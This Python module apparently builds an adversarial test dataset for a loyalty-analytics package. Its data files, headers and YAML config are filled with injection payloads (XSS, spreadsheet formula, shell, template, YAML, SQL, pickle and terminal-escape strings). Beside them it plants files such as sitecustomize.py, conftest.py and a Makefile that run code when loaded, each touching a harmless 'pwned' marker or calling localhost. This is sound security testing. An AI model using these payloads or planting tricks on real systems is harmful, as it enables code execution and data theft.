"""A company whose every text is an attack: the attacks, and a dataset folder that is full of them.

Grain out: the demo world's rows in files of the same formats; its texts, columns' names, sheets and
files' names and the texts of dataset.yml are payloads, and beside them lie programs that nobody asked
for. An attack that succeeds leaves MARK: a file of that name, an attribute of the page, a request to
ADDRESS, or a dialog.
"""

import csv
import itertools
import json
import re
import tempfile
from collections import Counter
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import nbformat
import pandas as pd
import python_calamine
import xlsxwriter
import yaml
from nbformat.v4 import new_code_cell, new_notebook

from loyaltylab import schemas, simulation
from loyaltylab.world import World

MARK = "pwned"
ADDRESS = f"http://127.0.0.1:9/{MARK}"
_RUN = f"document.documentElement.dataset.{MARK}=1"
_HERE = f"touch {MARK}"

# Kind → what is typed into a cell. Each would run in the program that it is written for.
PAYLOADS: dict[str, list[str]] = {
    "html": [
        f"<img src=x onerror={_RUN}>",
        f"\"><img src={ADDRESS} onerror=alert(1)>",
        f"</td></table></main><iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
        f"<details open ontoggle={_RUN}>",
        f"<base href={ADDRESS}/><meta http-equiv=refresh content='0;url={ADDRESS}'>",
        f"<form action={ADDRESS}><input autofocus onfocus={_RUN}></form>",
        "<math><mtext><table><mglyph><style><!--</style>"
        f"<img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
    ],
    "script": [
        f"<script>{_RUN};alert(1)</script>",
        f"</script></title></textarea><script>{_RUN}</script>",
        f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
        f"<script src={ADDRESS}></script>",
        f"--><script>{_RUN}</script><!--",
        f"'-alert(1)-'\";{_RUN}//",
    ],
    "svg": [
        f"<svg onload={_RUN}>",
        f"]]></text><script>{_RUN}</script>",
        f"<svg><use href='data:image/svg+xml,<svg onload={_RUN}>'/><image href={ADDRESS} />",
        f"<svg><a xlink:href='javascript:{_RUN}'>"
        f"<animate attributeName=href values=javascript:{_RUN} />",
        "&lt;svg onload=alert(1)&gt;&#60;script&#62;alert(1)&#60;/script&#62;",
    ],
    "css": [
        f"</style><script>{_RUN}</script>",
        f"<p style=\"background:url({ADDRESS})\">",
        f"\"; }} @import url({ADDRESS}); body {{ background: url({ADDRESS}) }}",
        f"x:expression({_RUN});fill:url({ADDRESS}#a)",
    ],
    "markdown": [
        f"[open](javascript:{_RUN})",
        f"[open]( java\tscript:{_RUN} )",
        f"![drawn]({ADDRESS})",
        f"<javascript:{_RUN}>",
        f"[a]: {ADDRESS} \"x\"",
        "# no heading | of a | page",
        "```\n</code></pre><script>alert(1)</script>",
        f"**bold** <{ADDRESS}> `code` ~~gone~~",
    ],
    "latex": [
        f"$\\href{{javascript:{_RUN}}}{{x}}$",
        "$\\frac{",
        "$$\\input{/etc/passwd}$$ \\write18{id}",
        "\\(\\unicode{<img src=x onerror=alert(1)>}\\)",
        "100 $ and $^_{",
    ],
    "formula": [
        "=cmd|' /C calc'!A0",
        f"=HYPERLINK(\"{ADDRESS}\";\"open\")",
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        f"@IMPORTXML(\"{ADDRESS}\";\"//a\")",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "＝1+1",
        "\"=1+1",
        "';=1+1",
        "a\n=1+1",
    ],
    "terminal": [
        f"\x1b]0;{MARK}\x07",
        "\x1b[2J\x1b[H",
        f"\x1b]8;;{ADDRESS}\x1b\\open\x1b]8;;\x1b\\",
        "\x9b31m",
        "\x08\x08\x7f\rgood",
        "\u202egnp.exe",
        "\x1bP+q544e\x1b\\",
    ],
    "make": [
        f"$(shell {_HERE})",
        f"$(MAKE) -f - ; {_HERE}",
        f"${{shell {_HERE}}}",
        f"a: ; {_HERE}",
        "# $@ %.o",
    ],
    "shell": [
        f"$({_HERE})",
        f"`{_HERE}`",
        f"; {_HERE} ;",
        f"'; {_HERE}; '",
        f"\"; {_HERE}; \"",
        f"| {_HERE} &",
        f"\n{_HERE}\n",
        f"--eval={_HERE}",
        "../../../etc/passwd",
    ],
    "template": [
        "{{ 7 * 7 }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        "{0.__class__.__init__.__globals__}",
        "{x!r:>{y}}",
        "%(x)s %n ${HOME}",
        f"{{{{ cycler.__init__.__globals__.os.popen('{_HERE}').read() }}}}",
    ],
    "yaml": [
        f"!!python/object/apply:os.system [\"{_HERE}\"]",
        "&a [*a, *a]",
        "x: y\n- z: [",
        "no: # comment",
        "\"\\",
    ],
    "sql": [
        "'; DROP TABLE orders; --",
        "\" || (SELECT 1) || \"",
        f"') TO '{MARK}'; --",
        f"'||(SELECT * FROM read_csv('{ADDRESS}'))||'",
    ],
    "python": [
        f"__import__('os').system('{_HERE}')",
        f"\"\"\"\nimport os; os.system('{_HERE}')\n\"\"\"",
        f"@__import__('os').system('{_HERE}')",
        f"!{_HERE}",
        f"%%bash\n{_HERE}",
    ],
}  # fmt: skip
_KINDS = {payload: kind for kind, payloads in PAYLOADS.items() for payload in payloads}
ALL = [payload for payloads in PAYLOADS.values() for payload in payloads]

# Canonical columns that stay as they are, for without them there would be no rows: all but texts, and of
# these what is one of a list or has a form.
_FORMED = {"currency", "instrument", "stage", "arm", "phone", "postcode"}
_PLAIN = _FORMED | {
    name
    for table in schemas.TABLES
    for name, dtype in schemas.column_types(table).items()
    if dtype != schemas.TEXT
}
# Columns that hold the same: what one of them is called, it is called in all.
_ALIKE = {"source": "record", "record_id": "record", "referred_by": "record"}
_ALIKE |= {"channel": "acquired_through"}
# A row with HTML or a formula in the name of a person or place is put aside: of these, some are attacks.
_NAMES = frozenset({"given_name", "family_name", "email", "street", "city", "country"})
_SOME = 8
_FREE_TEXTS = frozenset({"text", "comment"})
# What a path of dataset.yml takes for a sign, and what a sheet's name may not hold.
_OF_PATHS, _OF_SHEETS = r"[/*?#\\[\]\0]", r"[^\w $(){};<>=\"&|`.,!~^%@+-]"


class Attack:
    """Gives each value of a column payloads of its own, the same wherever that value stands.

    first : the payload to begin with, by its place in ALL; together : how many a text gets.
    """

    def __init__(self, first: int, together: int) -> None:
        self._payloads = itertools.islice(itertools.cycle(ALL), first, None)
        self._together = together
        self._given: dict[tuple[str, str], str] = {}
        self.counted: Counter[str] = Counter()
        self._numbers = itertools.count()

    def text(self) -> str:
        return "".join(self._one() for _ in range(self._together))

    def _one(self) -> str:
        payload = next(self._payloads)
        self.counted[_KINDS[payload]] += 1
        return payload

    def value(self, column: str, value: Any) -> Any:
        if column in _PLAIN or not isinstance(value, str) or not value:
            return value
        group = _ALIKE.get(column, column)
        if (group, value) not in self._given:
            spared = column in _NAMES and len(self._given) % _SOME > 0
            payload = "" if spared else self.text()
            space = " " if column in _FREE_TEXTS else ""
            self._given[group, value] = f"{payload}{space}{value}"
        return self._given[group, value]

    def header(self, column: str) -> str:
        """What a file calls a column: on one line, as the cells of a header are read."""
        return re.sub(r"\s+", " ", f"{self._one()} {column}").strip()

    def name(self, signs: str, longest: int) -> str:
        """Of a file or a sheet, without these signs; no two are alike."""
        number = f"{next(self._numbers)}"
        return re.sub(signs, "", self.text())[: longest - len(number)] + number


def write(folder: Path, *, customers: int = 150, first: int = 0, together: int = 4) -> Counter[str]:
    """Make the dataset `folder`: raw/ and dataset.yml; how many texts got an attack, by its kind.

    first, together : as in `Attack`.
    """
    demo = Path(__file__).parents[1] / "data" / "demo" / "dataset.yml"
    spec = yaml.safe_load(demo.read_text("utf-8"))
    attack = Attack(first, together)
    (folder / "raw").mkdir(parents=True)
    tables: dict[str, list[dict[str, Any]]] = {}
    with tempfile.TemporaryDirectory() as scratch:
        simulation.fill(Path(scratch), World(customers=customers))
        for table, files in spec["tables"].items():
            entries = files if isinstance(files, list) else [files]
            tables[table] = [
                _turned(path, table, entry, folder / "raw", attack)
                for entry in entries
                for path in sorted(Path(scratch).glob(entry["path"]))
            ]
    known = attack.value("acquired_through", "search")
    made = {
        "title": attack.text(),
        "description": attack.text(),
        "currency": spec["currency"],
        "observed_until": str(World().last_day),
        "tables": tables,
        "rules": {
            "orders": {"channel": {"allowed": [attack.text()], "note": True}},
            "customers": {"city": {"pattern": re.escape(attack.text()), "note": True}},
        },
        "thresholds": {"put_aside": None},
        "parameters": {"04b_value": {"cancelled": attack.text()}},
        "segments": {
            "from an attack": {"country": {"one_of": [attack.text(), "DE"]}},
            "won by an attack": {"acquired_through": {"is": known}},
        },
    }
    text = yaml.safe_dump(made, allow_unicode=True, sort_keys=False)
    (folder / "dataset.yml").write_text(text, "utf-8")
    _plant(folder)
    return attack.counted


def _plant(folder: Path) -> None:
    """Programs beside the data, called as those that Python, make or Jupyter would look for."""
    code = f"open({str(folder / MARK)!r}, 'w')"
    names = ("sitecustomize", "usercustomize", "loyaltylab", "pandas", "conftest", "__init__")
    for name, place in itertools.product(names, (folder, folder / "raw")):
        (place / f"{name}.py").write_text(code)
    notebook = new_notebook(cells=[new_code_cell(code)])
    for name, place in itertools.product(("01_validation", "09_more"), (folder, folder / "raw")):
        nbformat.write(notebook, place / f"{name}.ipynb")
    (folder / "Makefile").write_text(f"$(shell {_HERE})\n")
    (folder / "raw" / "more.pkl").write_bytes(f"cos\nsystem\n(S'{_HERE}'\ntR.".encode())


def _turned(
    path: Path, table: str, entry: Mapping[str, Any], raw: Path, attack: Attack
) -> dict[str, Any]:
    """Write one file of the demo, or one sheet of it, as an attack; what dataset.yml says of that."""
    read, write = _FORMATS[path.suffix]
    frame = read(path, entry)
    columns = {c: c for c in frame if c in schemas.column_types(table)}
    columns |= entry.get("columns", {})
    known = {theirs: ours for ours, theirs in columns.items()}
    headers = {column: attack.header(column) for column in frame}
    values = {c: [attack.value(known.get(c, c), v) for v in frame[c]] for c in frame}
    made = dict(entry) | {
        "path": f"raw/{attack.name(_OF_PATHS, 60)}{path.suffix}",
        "owner": attack.text(),
        "columns": {ours: headers[theirs] for ours, theirs in columns.items()},
    }
    made.pop("encoding", None)
    if "source" in entry:
        made["source"] = attack.value("source", entry["source"])
    if "sheet" in entry:
        made["sheet"] = attack.name(_OF_SHEETS, 31)
    write(
        raw.parent / made["path"], pd.DataFrame(values, dtype=object).rename(columns=headers), made
    )
    return made


def _read_csv(path: Path, entry: Mapping[str, Any]) -> pd.DataFrame:
    return pd.read_csv(
        path,
        sep=entry.get("delimiter", ","),
        encoding=entry.get("encoding", "utf-8-sig"),
        encoding_errors="replace",
        dtype=str,
        keep_default_na=False,
    )


def _write_csv(path: Path, frame: pd.DataFrame, entry: Mapping[str, Any]) -> None:
    # A lone carriage return is quoted by no writer that ends lines otherwise: the row would fall apart.
    frame.to_csv(path, sep=entry.get("delimiter", ","), index=False, quoting=csv.QUOTE_ALL)


def _read_lines(path: Path, entry: Mapping[str, Any]) -> pd.DataFrame:
    return pd.DataFrame(
        [json.loads(line) for line in path.read_text("utf-8").splitlines()], dtype=object
    )


def _write_lines(path: Path, frame: pd.DataFrame, entry: Mapping[str, Any]) -> None:
    rows = ({k: v for k, v in row.items() if v == v} for row in frame.to_dict("records"))
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), "utf-8")


def _read_parquet(path: Path, entry: Mapping[str, Any]) -> pd.DataFrame:
    return pd.read_parquet(path).astype(object)


def _write_parquet(path: Path, frame: pd.DataFrame, entry: Mapping[str, Any]) -> None:
    frame.infer_objects().to_parquet(path, index=False)


def _read_sheet(path: Path, entry: Mapping[str, Any]) -> pd.DataFrame:
    book = python_calamine.CalamineWorkbook.from_path(path)
    first, *rows = book.get_sheet_by_name(entry["sheet"]).to_python()
    texts = [[cell if isinstance(cell, float) else str(cell) for cell in row] for row in rows]
    return pd.DataFrame(texts, columns=first, dtype=object)


def _write_sheet(path: Path, frame: pd.DataFrame, entry: Mapping[str, Any]) -> None:
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet(entry["sheet"])
        for place, row in enumerate([list(frame), *frame.to_numpy().tolist()]):
            for at, cell in enumerate(row):
                (sheet.write_string if isinstance(cell, str) else sheet.write)(place, at, cell)


_Read = Callable[[Path, Mapping[str, Any]], pd.DataFrame]
_Write = Callable[[Path, pd.DataFrame, Mapping[str, Any]], None]
_FORMATS: dict[str, tuple[_Read, _Write]] = {
    ".csv": (_read_csv, _write_csv),
    ".jsonl": (_read_lines, _write_lines),
    ".parquet": (_read_parquet, _write_parquet),
    ".xlsx": (_read_sheet, _write_sheet),
}
